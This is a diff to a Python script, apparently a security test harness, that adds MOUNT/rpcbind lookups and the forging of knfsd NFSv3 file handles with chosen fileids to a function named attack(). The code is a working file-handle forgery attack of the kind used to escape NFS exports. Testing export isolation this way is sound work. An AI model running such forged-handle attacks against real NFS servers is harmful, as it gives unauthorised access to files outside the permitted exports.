@@ -8,8 +8,12 @@ with them (and READ). Run as a script inside a namespace holding a node's addres
 
 HANDLES.json maps a name to a hex handle. A status of 0 (NFS3_OK) means the server answered.
 A handle may be followed by names (`HEX/etc/motd`): the handle the server gives for that path
-by LOOKUPs from it (a real one, not forged) is used instead. With `--resolve` the script
-prints those handles ({name: hex}, or the failing LOOKUP's status) and sends nothing else.
+by LOOKUPs from it (a real one, not forged) is used instead. `@PATH` is the root handle MOUNT
+gives for the export PATH (an export without `fsid=`: knfsd derives its fsid from the
+filesystem's UUID and the export's inode); `@PATH#TYPE:HEX` that handle with fileid type TYPE
+and fileid HEX instead (a forged handle with that export's fsid); `@PATH#/etc/motd` by
+LOOKUPs from it. With `--resolve` the script prints those handles ({name: hex}, or the
+failing call's status) and sends nothing else.
 The client binds a privileged source port (knfsd's default `secure` export option).
 """
 
@@ -24,6 +28,8 @@ import sys
 from oneroot.testing.oncrpc import call_message, opaque, read_record, send_record
 
 NFS_PROGRAM, NFS_V3 = 100003, 3
+PMAP_PROGRAM, PMAP_V2, PMAP_GETPORT, IPPROTO_TCP = 100000, 2, 3, 6
+MOUNT_PROGRAM, MOUNT_V3, MOUNTPROC3_MNT = 100005, 3, 1
 GETATTR, LOOKUP, READ, READDIR = 1, 3, 6, 16
 # knfsd's file handle, version 1: version, auth type, fsid type, fileid type, fsid, fileid.
 FSID_NUM = 1  # a 4-byte `fsid=` number
@@ -57,6 +63,7 @@ class Rpc:
                 continue
         self.sock.settimeout(15)
         self.sock.connect((server, port))
+        self.server = server
         self.xid = random.randint(1, 1 << 30)
 
     def call(self, program: int, version: int, proc: int, args: bytes) -> int | bytes:
@@ -101,7 +108,17 @@ class Nfs3(Rpc):
         return reply[8:8 + length] if status == 0 else status
 
     def walk(self, spec: str) -> bytes | int:
-        """`HEX/name/…`: the handle of that path below handle HEX, or a LOOKUP's status."""
+        """`HEX/name/…`: the handle of that path below handle HEX, or a LOOKUP's status;
+        `@PATH[#TYPE:HEX | #/name/…]`: from the export's root handle (`mount_root`)."""
+        if spec.startswith("@"):
+            path, _, rest = spec[1:].partition("#")
+            root = mount_root(self.server, path)
+            if isinstance(root, int) or not rest:
+                return root
+            if rest.startswith("/"):
+                return self.walk(root.hex() + rest)
+            kind, fileid = rest.split(":")
+            return root[:3] + bytes([int(kind)]) + root[4:] + bytes.fromhex(fileid)
         first, *names = spec.split("/")
         fh: bytes | int = bytes.fromhex(first)
         for name in names:
@@ -115,6 +132,24 @@ class Nfs3(Rpc):
 
     def read(self, fh: bytes) -> int:
         return self.nfs(READ, opaque(fh) + struct.pack(">QI", 0, 4096))
+
+
+def mount_root(server: str, path: str) -> bytes | int:
+    """The root handle of export `path` by MOUNT v3 (its port from rpcbind), or the MNT
+    status (13: EACCES, not exported to this address)."""
+    pmap = Rpc(server, 111)
+    reply = pmap.call(PMAP_PROGRAM, PMAP_V2, PMAP_GETPORT,
+                      struct.pack(">IIII", MOUNT_PROGRAM, MOUNT_V3, IPPROTO_TCP, 0))
+    pmap.sock.close()
+    if isinstance(reply, int):
+        return reply
+    mountd = Rpc(server, int(struct.unpack(">I", reply[:4])[0]))
+    reply = mountd.call(MOUNT_PROGRAM, MOUNT_V3, MOUNTPROC3_MNT, opaque(path.encode()))
+    mountd.sock.close()
+    if isinstance(reply, int):
+        return reply
+    status, length = (int(v) for v in struct.unpack(">II", reply[:8]))
+    return reply[8:8 + length] if status == 0 else status
 
 
 def attack(server: str, handles: dict[str, str]) -> dict[str, dict[str, int]]:
